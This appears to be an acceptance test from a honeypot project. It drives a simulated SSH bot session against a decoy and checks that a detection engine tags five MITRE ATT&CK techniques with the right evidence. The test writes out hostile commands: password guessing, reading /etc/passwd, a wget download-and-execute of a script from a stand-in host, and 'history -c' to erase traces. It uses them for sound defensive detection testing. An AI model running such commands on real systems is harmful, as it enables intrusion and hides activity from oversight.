// The acceptance session against the real SSH decoy: a real ssh2 client fails twice, logs
// in with the weak password and runs `uname -a; cat /etc/passwd; wget …; chmod +x x.sh; ./x.sh;
// history -c`. The events the decoy recorded (read back from its RFC 5424 log) go through the
// engine with the shipped rules; the five expected techniques come out with evidence.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BOT_COMMAND, sshAttack } from '../helpers/ssh-attack.ts';
import { ROOT } from '../helpers/env.ts';
import { startTestDecky } from '../deckies/harness.ts';
import { loadTtpEngine } from '../../src/intel/ttp/load-engine.ts';
import { createMatcher } from '../../src/intel/ttp/matcher.ts';
import { toTtpEvent } from '../../src/intel/ttp/to-event.ts';

// Host keys go under the data directory: keep them in a scratch place.
const scratch = mkdtempSync(join(tmpdir(), 'decnet-ttp-ssh-'));
process.env.DECNET_DATA_DIR = scratch;
after(() => rmSync(scratch, { recursive: true, force: true }));

test('a real SSH session on the decoy yields T1110, T1078, T1082, T1105 and T1070.003 with evidence', async () => {
  const d = await startTestDecky({ services: [{ name: 'ssh', config: { fail_delay_ms: '0' } }] });
  try {
    // Two wrong passwords, then the decoy's weak root password.
    await sshAttack({ host: d.ip, port: d.port('ssh') }, ['letmein', 'toor', 'admin'], BOT_COMMAND);
    await d.waitForEvent((e) => e.event === 'download');

    const { engine } = await loadTtpEngine({ rulesDir: join(ROOT, 'rules/ttp'), cataloguePath: join(ROOT, 'data/attack/enterprise-18.1.json') });
    const matcher = createMatcher(engine);
    const events = await d.events();
    const tags = events.flatMap((e) => matcher.match(toTtpEvent(e)));

    const expected: [string, RegExp][] = [
      ['T1110', /login succeeded after 2 failed attempts/],
      ['T1078', /login succeeded after 2 failed attempts/],
      ['T1082', /^uname -a$/],
      ['T1105', /^wget http:\/\/198\.51\.100\.7\/x\.sh$/],
      ['T1070.003', /^history -c$/],
    ];
    for (const [technique, evidence] of expected) {
      const found = tags.filter((t) => t.technique_id === technique);
      assert.equal(found.length, 1, `${technique}: got ${found.length} (all: ${tags.map((t) => t.technique_id).join(', ')})`);
      const tag = found[0]!;
      assert.match(tag.evidence.matched ?? tag.evidence.text, evidence);
      assert.equal(tag.decky, d.name);
      assert.equal(tag.service, 'ssh');
      assert.equal(tag.attacker_ip, events[0]!.src_ip);
    }
    const cmdTag = tags.find((t) => t.technique_id === 'T1070.003')!;
    assert.equal(cmdTag.evidence.text, BOT_COMMAND);
    assert.equal(cmdTag.evidence.fields.cwd, '/root');
    // No secret from the session reaches a tag.
    const json = JSON.stringify(tags);
    for (const pw of ['letmein', 'toor', Buffer.from('admin').toString('base64')]) assert.ok(!json.includes(pw), pw);
  } finally {
    await d.stop();
  }
});
